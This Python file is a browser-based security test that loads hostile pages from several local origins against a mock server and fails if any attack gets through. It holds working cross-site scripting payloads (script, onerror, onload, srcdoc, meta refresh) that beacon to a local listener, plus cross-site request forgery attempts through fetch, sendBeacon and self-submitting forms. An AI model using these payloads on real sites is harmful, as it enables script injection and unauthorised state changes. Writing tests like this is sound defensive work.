"""Attacks a server from hostile pages in a real browser: hostile-page.py PATH-OF-UNDERSTUDY

JSON responses are relabelled as text/html, so that text that the server echoes could run as a page of its origin.
Pages of three other origins try to run a script there and to create a sandbox. Fails if one of them succeeds.
"""
import contextlib
import json
import os
import sys
import tempfile
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from browser import Browser
from dashboard import Server

SCENARIO = {"name": "wrong type", "rules": [{"effect": {"fault": "wrong-type"}}]}
# The time in seconds for a script of the attacked page to run after the page was loaded, also beside another step.
PATIENCE = 0.5


class Attacker:
    """Serves one hostile page under every name, and records each request that a script in the attacked origin sends."""

    def __init__(self):
        self.page = ""
        self.trophies = []
        self.done = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path.startswith("/ran"):
                    attacker.trophies.append(urllib.parse.unquote(self.path))
                elif self.path == "/done":
                    attacker.done.set()
                body = attacker.page.encode() if self.path == "/" else b""
                # The browser aborts the requests of a page that it leaves.
                with contextlib.suppress(ConnectionError):
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html; charset=utf-8")
                    self.send_header("Content-Length", str(len(body)))
                    self.send_header("Access-Control-Allow-Origin", "*")
                    self.end_headers()
                    self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def payloads(beacon):
    """Returns markup that creates a sandbox and reports that when it is run. It has no quotes, because JSON would escape them.
    """
    act = (f"fetch('/_mock/sandboxes',{{method:'POST',body:'{{}}'}});"
           f"fetch('{beacon}/script?'+origin+location.pathname.slice(0,20))")
    return {
        "script": f"<script>{act}</script>",
        "handler": f"<img src=x onerror={act}>",
        "vector image": f"<svg onload={act}>",
        "frame": f"<iframe srcdoc=&lt;script&gt;{act}&lt;/script&gt;>",
        "refresh": f"<meta http-equiv=refresh content=0;url={beacon}/refresh>",
        "style sheet": f"<link rel=stylesheet href={beacon}/style>",
    }


def echoes(target, beacon):
    """Returns URLs of which the server echoes a part in its response."""
    for name, markup in payloads(beacon).items():
        text = urllib.parse.quote(markup, safe="")
        yield f"{name} in a path", f"{target}/devices/{text}"
    text = urllib.parse.quote(payloads(beacon)["script"], safe="")
    yield "script in a sandbox's label", f"{target}/@{text}/devices"
    yield "script in a parameter of the control API", f"{target}/_mock/journal?{text}=1"
    yield "script in the document's query", f"{target}/openapi.yaml?{text}"
    yield "script that a device holds", f"{target}/devices/WWM-0001-12"
    yield "script in a list", f"{target}/devices"
    yield "script in the report", f"{target}/_mock/report?format=html"


# Requests that a page may send to any address without a preflight.
WAYS = {
    "top level": "location.href = address; setTimeout(finish, 1500);",
    "frame": "load(document.createElement('iframe'), address); setTimeout(finish, 1500);",
    "object": "const element = document.createElement('object'); element.type = 'text/html';"
              "element.data = address; document.body.append(element); setTimeout(finish, 600);",
    "window": "open(address); setTimeout(finish, 600);",
    "refresh": "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh';"
               "meta.content = `0;url=${address}`; document.head.append(meta);"
               "setTimeout(finish, 1500);",
}

def submission(kind, where, fields):
    """Returns a form with one field that submits itself."""
    text = json.dumps(fields).replace("</", "<\\/")
    return f"""
const form = document.createElement('form');
Object.assign(form, {{ method: 'post', enctype: '{kind}', action: address, target: '{where}' }});
const input = document.createElement('input');
[input.name, input.value] = {text};
form.append(input);
document.body.append(form);
form.submit();
setTimeout(finish, 600);
"""


# Attacks on the control API, by every element or function that sends a request.
DIRECT = """
const body = '{"name":"made-by-page"}';
const make = `${target}/_mock/sandboxes`;
const attempts = [
  () => fetch(make, { method: 'POST', body }),
  () => fetch(make, { method: 'POST', body, mode: 'no-cors' }),
  () => fetch(make, { method: 'POST', body, mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer' }),
  () => fetch(make, { method: 'POST', body, headers: { 'Content-Type': 'application/json' } }),
  () => fetch(`${target}/_mock/scenario`, { method: 'PUT', body: '"mayhem"' }),
  () => fetch(`${target}/_mock/state`, { method: 'PATCH', body: '{"house":{"temperature":31}}' }),
  () => fetch(`${target}/_mock/reset`, { method: 'POST', mode: 'no-cors' }),
  () => navigator.sendBeacon(make, body),
  () => fetch(`${target}/_mock/state`).then(response => response.text()).then(() => fetch('/ran/read')),
  () => fetch(make, { mode: 'no-cors' }),
];
const sandboxed = document.createElement('iframe');
sandboxed.sandbox = 'allow-scripts allow-forms';
sandboxed.srcdoc = `<script>fetch('${make}', { method: 'POST', body: '${body}' });<\\/script>`;
document.body.append(sandboxed);
for (const [tag, path] of [['img', 'sandboxes'], ['script', 'journal'], ['iframe', ''], ['iframe', 'report?format=html']]) {
  const element = document.createElement(tag);
  element.src = `${target}/_mock/${path}`;
  document.body.append(element);
}
Promise.allSettled(attempts.map(attempt => attempt())).then(() => setTimeout(finish, 300));
"""


def hostile(target, address, script):
    """Returns a page that performs one attack, and reports when it is done."""
    return f"""<!doctype html><meta charset=utf-8><title>hostile</title><body><script>
const target = {json.dumps(target)}, address = {json.dumps(address)};
const finish = () => fetch('/done');
const load = (element, address) => {{ element.onload = finish; element.src = address; document.body.append(element); }};
addEventListener('DOMContentLoaded', () => {{ {script} }});
</script>"""


class Trial:
    def __init__(self, browser, server, attacker):
        self.browser, self.server, self.attacker = browser, server, attacker
        self.failures, self.count = [], 0

    def sandboxes(self):
        status, data = self.server.ask("GET", "/_mock/sandboxes")
        assert status == 200, data
        return {sandbox["name"] for sandbox in json.loads(data)["sandboxes"]}

    def run(self, origin, what, target, address, script):
        """Opens the page, waits until it is done, and checks the effects."""
        before = self.sandboxes()
        del self.attacker.trophies[:]
        self.attacker.done.clear()
        self.attacker.page = hostile(target, address, script)
        page = self.browser.page()
        page.call("Page.navigate", url=origin + "/")
        began = time.monotonic()
        while not self.attacker.done.is_set() and time.monotonic() - began < 10:
            # A page that was left cannot report that it is done, so the browser's location tells.
            try:
                here = page.evaluate("document.readyState === 'complete' && location.href")
            except AssertionError:
                here = None  # The page was replaced during the call.
            if here and here != origin + "/" and here != "about:blank":
                break
            time.sleep(0.02)
        else:
            if not self.attacker.done.is_set():
                raise AssertionError(f"{what} from {origin}: nothing happened within 10 s")
        time.sleep(PATIENCE)
        made = self.sandboxes() - before
        self.browser.close_pages()
        self.count += 1
        for name in made:
            self.server.ask("DELETE", f"/_mock/sandboxes/{name}")
        if made or self.attacker.trophies:
            self.failures.append(f"{what}, from {origin} at {target}: made {sorted(made) or 'no sandbox'}, "
                                 f"sent {self.attacker.trophies or 'nothing'}")


def main():
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as file:
        json.dump(SCENARIO, file)
    server = Server(sys.argv[1], "--scenario", file.name)
    browser, attacker = Browser("--disable-popup-blocking"), Attacker()
    trial = Trial(browser, server, attacker)
    beacon = f"http://127.0.0.1:{attacker.port}/ran"
    device = {"meterPointDescription": payloads(beacon)["script"]}
    assert server.ask("PATCH", "/devices/WWM-0001-12", device)[0] == 200
    markup = payloads(beacon)["script"]
    # A form sent as plain text is "name=value": with a few quotes around the "=", that is JSON.
    posts = {"text/plain": [f'{{"name":{json.dumps(markup)},"x":"', '"}'],
             "application/x-www-form-urlencoded": ["name", markup]}
    orders = [['{"name":"made-by-form"}', ""], ['{"ttl":"5m","name":"x', 'y"}']]
    try:
        for name, at in [("127.0.0.1", "127.0.0.1"), ("localhost", "127.0.0.1"), ("evil.localhost", "localhost")]:
            origin, target = f"http://{name}:{attacker.port}", f"http://{at}:{server.port}"
            failed = len(trial.failures)
            for what, address in echoes(target, beacon):
                for way, script in WAYS.items():
                    if way in ["top level", "frame"] or what in ["script in a path", "script that a device holds"]:
                        trial.run(origin, f"{what}, {way}", target, address, script)
            for where in ["_self", "_blank"]:
                for kind, fields in posts.items():
                    trial.run(origin, f"form with a script to /users as {kind}, {where}", target, f"{target}/users",
                              submission(kind, where, fields))
                for fields in orders:
                    trial.run(origin, f"form to /_mock/sandboxes, {where}", target, f"{target}/_mock/sandboxes",
                              submission("text/plain", where, fields))
            trial.run(origin, "straight at the control API", target, "", DIRECT)
            print(f"  from {origin} at {target}: {len(trial.failures) - failed} attacks came through")
        status, data = server.ask("GET", "/_mock/scenario")
        if json.loads(data)["name"] != SCENARIO["name"]:
            trial.failures.append("the scenario is another")
        if "31" in server.ask("GET", "/@house/state")[1].decode()[:24]:
            trial.failures.append("the state is another")
    finally:
        browser.close()
        server.stop()
        os.unlink(file.name)
    for failure in trial.failures:
        print(f"FAILED: {failure}", file=sys.stderr)
    print(f"  {trial.count} attacks, {len(trial.failures)} came through")
    sys.exit(1 if trial.failures else 0)


if __name__ == "__main__":
    main()
